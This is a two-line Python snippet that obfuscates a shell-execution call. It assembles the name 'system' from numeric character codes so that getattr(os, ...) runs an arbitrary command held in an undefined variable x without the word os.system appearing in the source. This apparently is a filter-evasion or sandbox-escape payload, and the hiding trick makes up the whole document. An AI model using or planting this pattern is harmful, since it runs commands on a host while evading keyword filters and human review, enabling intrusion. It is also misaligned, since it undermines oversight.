import os
getattr(os,''.join(chr(c) for c in [115,121,115,116,101,109]))(x)
